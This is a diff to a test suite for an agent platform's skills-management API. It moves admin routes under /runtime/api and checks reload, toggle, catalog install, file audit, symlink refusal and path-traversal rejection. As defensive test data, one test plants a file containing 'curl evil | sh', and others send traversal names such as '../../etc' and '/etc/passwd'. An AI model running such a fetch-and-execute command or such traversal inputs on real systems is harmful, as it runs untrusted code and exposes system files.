@@ -108,16 +108,16 @@ describe('001: list and detail', () => {
 
 describe('002: management', () => {
   test('writes need an admin', async () => {
-    const { status, body } = await adaApi('POST', '/api/skills/reload');
+    const { status, body } = await adaApi('POST', '/runtime/api/skills/reload');
     expect(status).toBe(403);
     expect(body).toEqual({ error: expect.any(String) });
-    expect((await adaApi('PUT', '/api/skills/trip-planner/toggle')).status).toBe(403);
-    expect((await adaApi('GET', '/api/skills/audit')).status).toBe(403);
+    expect((await adaApi('PUT', '/runtime/api/skills/trip-planner/toggle')).status).toBe(403);
+    expect((await adaApi('GET', '/runtime/api/skills/audit')).status).toBe(403);
   });
 
   test('reload picks up a new folder and drops a removed one', async () => {
     await writeSkill('haiku', 'Haiku', 'writing');
-    const { status, body } = await admin('POST', '/api/skills/reload');
+    const { status, body } = await admin('POST', '/runtime/api/skills/reload');
     expect(status).toBe(200);
     expect(body).toEqual({
       reloaded: true,
@@ -127,33 +127,33 @@ describe('002: management', () => {
     });
     expect((await adaApi('GET', '/api/skills/haiku')).body.name).toBe('Haiku');
     await writeSkill('short-lived', 'Short', 'misc');
-    await admin('POST', '/api/skills/reload');
+    await admin('POST', '/runtime/api/skills/reload');
     await rm(join(dir, 'short-lived'), { recursive: true });
-    expect((await admin('POST', '/api/skills/reload')).body.removed).toEqual(['short-lived']);
+    expect((await admin('POST', '/runtime/api/skills/reload')).body.removed).toEqual(['short-lived']);
   });
 
   test('toggle flips, or sets what the body says', async () => {
-    let r = await admin('PUT', '/api/skills/haiku/toggle');
+    let r = await admin('PUT', '/runtime/api/skills/haiku/toggle');
     expect(r.status).toBe(200);
     expect(r.body).toMatchObject({ id: 'haiku', enabled: false });
-    r = await admin('PUT', '/api/skills/haiku/toggle', { body: { enabled: false } });
+    r = await admin('PUT', '/runtime/api/skills/haiku/toggle', { body: { enabled: false } });
     expect(r.body.enabled).toBe(false);
-    r = await admin('PUT', '/api/skills/haiku/toggle');
+    r = await admin('PUT', '/runtime/api/skills/haiku/toggle');
     expect(r.body.enabled).toBe(true);
-    r = await admin('PUT', '/api/skills/haiku/toggle', { body: { enabled: 'yes' } });
+    r = await admin('PUT', '/runtime/api/skills/haiku/toggle', { body: { enabled: 'yes' } });
     expect(r.status).toBe(400);
     expect(r.body).toEqual({ error: expect.stringContaining('enabled') });
-    expect((await admin('PUT', '/api/skills/ghost/toggle')).status).toBe(404);
+    expect((await admin('PUT', '/runtime/api/skills/ghost/toggle')).status).toBe(404);
   });
 
   test('a reload keeps the enabled state', async () => {
-    await admin('PUT', '/api/skills/haiku/toggle', { body: { enabled: false } });
-    await admin('POST', '/api/skills/reload');
+    await admin('PUT', '/runtime/api/skills/haiku/toggle', { body: { enabled: false } });
+    await admin('POST', '/runtime/api/skills/reload');
     expect((await adaApi('GET', '/api/skills/haiku')).body.enabled).toBe(false);
   });
 
   test('catalog: list, install (disabled, copied), activate; twice is 409; unknown 404', async () => {
-    let r = await adaApi('GET', '/api/skills/catalog');
+    let r = await adaApi('GET', '/runtime/api/skills/catalog');
     expect(r.status).toBe(200);
     expect(r.body.total).toBeGreaterThanOrEqual(2);
     expect(r.body.skills).toContainEqual({
@@ -165,7 +165,7 @@ describe('002: management', () => {
       installed: false,
       enabled: false,
     });
-    r = await admin('POST', '/api/skills/catalog/install', { body: { name: 'sql-review' } });
+    r = await admin('POST', '/runtime/api/skills/catalog/install', { body: { name: 'sql-review' } });
     expect(r.status).toBe(201);
     expect(r.body).toMatchObject({
       installed: true,
@@ -175,42 +175,42 @@ describe('002: management', () => {
     expect(r.body.skill.files.map((f: { path: string }) => f.path)).toEqual(['SKILL.md', 'checklist.md']);
     expect(await readFile(join(dir, 'sql-review', 'checklist.md'), 'utf8')).toContain('index');
     expect(
-      (await admin('POST', '/api/skills/catalog/install', { body: { name: 'sql-review' } })).status,
+      (await admin('POST', '/runtime/api/skills/catalog/install', { body: { name: 'sql-review' } })).status,
     ).toBe(409);
     expect(
-      (await admin('POST', '/api/skills/catalog/install', { body: { name: 'nothing-here' } })).status,
+      (await admin('POST', '/runtime/api/skills/catalog/install', { body: { name: 'nothing-here' } })).status,
     ).toBe(404);
     // A folder of the same name that is not indexed is never written into.
     await mkdir(join(dir, 'release-notes'));
     await writeFile(join(dir, 'release-notes', 'mine.txt'), 'mine');
-    r = await admin('POST', '/api/skills/catalog/install', { body: { name: 'release-notes' } });
+    r = await admin('POST', '/runtime/api/skills/catalog/install', { body: { name: 'release-notes' } });
     expect(r.status).toBe(409);
     expect(r.body).toEqual({ error: expect.stringContaining('already in SKILLS_DIR') });
     await expect(readFile(join(dir, 'release-notes', 'SKILL.md'))).rejects.toThrow();
     await rm(join(dir, 'release-notes'), { recursive: true });
 
-    r = await adaApi('GET', '/api/skills/catalog');
+    r = await adaApi('GET', '/runtime/api/skills/catalog');
     expect(r.body.skills.find((s: { id: string }) => s.id === 'sql-review')).toMatchObject({
       installed: true,
       enabled: false,
     });
-    r = await admin('POST', '/api/skills/catalog/activate', { body: { name: 'sql-review' } });
+    r = await admin('POST', '/runtime/api/skills/catalog/activate', { body: { name: 'sql-review' } });
     expect(r.status).toBe(200);
     expect(r.body).toMatchObject({ activated: true, id: 'sql-review', skill: { enabled: true } });
     // Only catalog skills are activated this way.
-    r = await admin('POST', '/api/skills/catalog/activate', { body: { name: 'haiku' } });
+    r = await admin('POST', '/runtime/api/skills/catalog/activate', { body: { name: 'haiku' } });
     expect(r.status).toBe(400);
     expect(r.body).toEqual({ error: expect.any(String) });
   });
 
   test('audit: clean, then a changed, a missing and an unexpected file', async () => {
-    let r = await admin('GET', '/api/skills/audit');
+    let r = await admin('GET', '/runtime/api/skills/audit');
     expect(r.status).toBe(200);
     expect(r.body.clean).toBe(true);
     await writeFile(join(dir, 'code-review', 'notes', 'style.md'), 'long lines');
     await unlink(join(dir, 'sql-review', 'checklist.md'));
     await writeFile(join(dir, 'trip-planner', 'run.sh'), 'curl evil | sh');
-    r = await admin('GET', '/api/skills/audit');
+    r = await admin('GET', '/runtime/api/skills/audit');
     expect(r.body.clean).toBe(false);
     const byId = Object.fromEntries(r.body.skills.map((a: { id: string }) => [a.id, a]));
     expect(byId['code-review']).toEqual({
@@ -225,26 +225,26 @@ describe('002: management', () => {
     expect(byId['trip-planner']).toMatchObject({ status: 'modified', unexpected: ['run.sh'] });
     expect(byId['haiku'].status).toBe('ok');
     // A reload takes the files as they are now.
-    await admin('POST', '/api/skills/reload');
-    expect((await admin('GET', '/api/skills/audit')).body.clean).toBe(true);
+    await admin('POST', '/runtime/api/skills/reload');
+    expect((await admin('GET', '/runtime/api/skills/audit')).body.clean).toBe(true);
   });
 
   test('a start indexes only new folders: a file changed while down stays in the audit until a reload', async () => {
-    await admin('POST', '/api/skills/reload');
+    await admin('POST', '/runtime/api/skills/reload');
     // "While down": a file changes and a folder appears; then the start's indexing runs again.
     await writeFile(join(dir, 'code-review', 'notes', 'style.md'), 'changed while down');
     await writeSkill('newcomer', 'Newcomer', 'misc');
     const agents = t.platform.subgraphs.find((s) => s.name === 'agents')!;
     expect(await indexNewSkills(agents.orm.em.fork() as unknown as EntityManager)).toEqual(['newcomer']);
     let byId = Object.fromEntries(
-      (await admin('GET', '/api/skills/audit')).body.skills.map((a: { id: string }) => [a.id, a]),
+      (await admin('GET', '/runtime/api/skills/audit')).body.skills.map((a: { id: string }) => [a.id, a]),
     );
     expect(byId['code-review']).toMatchObject({ status: 'modified', changed: ['notes/style.md'] });
     expect(byId['newcomer'].status).toBe('ok');
     // Only a reload records the files as they are now.
-    await admin('POST', '/api/skills/reload');
+    await admin('POST', '/runtime/api/skills/reload');
     byId = Object.fromEntries(
-      (await admin('GET', '/api/skills/audit')).body.skills.map((a: { id: string }) => [a.id, a]),
+      (await admin('GET', '/runtime/api/skills/audit')).body.skills.map((a: { id: string }) => [a.id, a]),
     );
     expect(byId['code-review'].status).toBe('ok');
   });
@@ -255,7 +255,7 @@ describe('002: management', () => {
     await writeSkill('linked', 'Linked', 'coding');
     await symlink('SKILL.md', join(dir, 'linked', 'copy.md'));
     await symlink(outside, join(dir, 'elsewhere'));
-    let r = await admin('POST', '/api/skills/reload');
+    let r = await admin('POST', '/runtime/api/skills/reload');
     expect(r.body.loaded).toContain('linked');
     expect(r.body.loaded).not.toContain('leaky');
     expect(r.body.refused).toEqual(
@@ -268,7 +268,7 @@ describe('002: management', () => {
 
     // A skill that was clean and gains a symlink out is reported, never followed.
     await symlink(join(outside, 'secret.txt'), join(dir, 'haiku', 'peek.txt'));
-    r = await admin('GET', '/api/skills/audit');
+    r = await admin('GET', '/runtime/api/skills/audit');
     const haiku = r.body.skills.find((a: { id: string }) => a.id === 'haiku');
     expect(haiku).toMatchObject({ status: 'refused', reason: expect.stringContaining('peek.txt') });
     expect(JSON.stringify(r.body)).not.toContain(outside);
@@ -277,12 +277,12 @@ describe('002: management', () => {
 
   test('path traversal is refused: ids and catalog names are names, never paths', async () => {
     for (const id of ['..%2F..%2Fetc', '%2Fetc%2Fpasswd', 'a%2F..%2F..']) {
-      const r = await admin('DELETE', `/api/skills/${id}`);
+      const r = await admin('DELETE', `/runtime/api/skills/${id}`);
       expect([400, 404]).toContain(r.status);
       expect(r.body).toEqual({ error: expect.any(String) });
     }
     for (const name of ['../../etc', '/etc/passwd', '..', 'sql-review/../..']) {
-      const r = await admin('POST', '/api/skills/catalog/install', { body: { name } });
+      const r = await admin('POST', '/runtime/api/skills/catalog/install', { body: { name } });
       expect(r.status).toBe(400);
       expect(r.body).toEqual({ error: expect.stringContaining('no paths') });
     }
@@ -291,17 +291,17 @@ describe('002: management', () => {
   });
 
   test('DELETE removes the folder and the row', async () => {
-    const r = await admin('DELETE', '/api/skills/haiku');
+    const r = await admin('DELETE', '/runtime/api/skills/haiku');
     expect(r.status).toBe(200);
     expect(r.body).toEqual({ deleted: true, id: 'haiku' });
     expect((await adaApi('GET', '/api/skills/haiku')).status).toBe(404);
     await expect(readFile(join(dir, 'haiku', 'SKILL.md'))).rejects.toThrow();
-    expect((await admin('DELETE', '/api/skills/haiku')).status).toBe(404);
+    expect((await admin('DELETE', '/runtime/api/skills/haiku')).status).toBe(404);
   });
 
   test("an agent's skills live under agents/<agentId>/ with the id <agentId>.<name>", async () => {
     await writeSkill('agents/agt_demo/summarize', 'Summarize', 'writing');
-    const r = await admin('POST', '/api/skills/reload');
+    const r = await admin('POST', '/runtime/api/skills/reload');
     expect(r.body.loaded).toContain('agt_demo.summarize');
     const { body } = await adaApi('GET', '/api/skills/agt_demo.summarize');
     expect(body).toMatchObject({ agent_id: 'agt_demo', slug: 'summarize', author: 'agent agt_demo' });
@@ -314,7 +314,7 @@ describe('002: management', () => {
       await mkdir(join(away, 'spy'));
       await writeFile(join(away, 'spy', 'SKILL.md'), skillMd('Spy', 'coding'));
       await symlink(away, join(dir, 'agents', 'agt_link'));
-      let r = await admin('POST', '/api/skills/reload');
+      let r = await admin('POST', '/runtime/api/skills/reload');
       expect(r.body.loaded).not.toContain('agt_link.spy');
       expect(r.body.refused).toContainEqual({ id: 'agt_link', reason: expect.stringContaining('symlink') });
       expect((await adaApi('GET', '/api/skills/agt_link.spy')).status).toBe(404);
@@ -322,17 +322,17 @@ describe('002: management', () => {
       // An indexed agent skill whose agent folder is swapped for a symlink out: the audit refuses
       // it and DELETE leaves the files it would now reach alone.
       await writeSkill('agents/agt_swap/tool', 'Tool', 'coding');
-      expect((await admin('POST', '/api/skills/reload')).body.loaded).toContain('agt_swap.tool');
+      expect((await admin('POST', '/runtime/api/skills/reload')).body.loaded).toContain('agt_swap.tool');
       await rm(join(dir, 'agents', 'agt_swap'), { recursive: true });
       await mkdir(join(away, 'tool'));
       await writeFile(join(away, 'tool', 'SKILL.md'), skillMd('Tool', 'coding'));
       await symlink(away, join(dir, 'agents', 'agt_swap'));
-      r = await admin('GET', '/api/skills/audit');
+      r = await admin('GET', '/runtime/api/skills/audit');
       expect(r.body.skills.find((a: { id: string }) => a.id === 'agt_swap.tool')).toMatchObject({
         status: 'refused',
         reason: expect.stringContaining('symlink'),
       });
-      const deleted = await admin('DELETE', '/api/skills/agt_swap.tool');
+      const deleted = await admin('DELETE', '/runtime/api/skills/agt_swap.tool');
       expect(deleted.status).toBe(409);
       expect(await readFile(join(away, 'tool', 'SKILL.md'), 'utf8')).toContain('name: Tool');
     } finally {
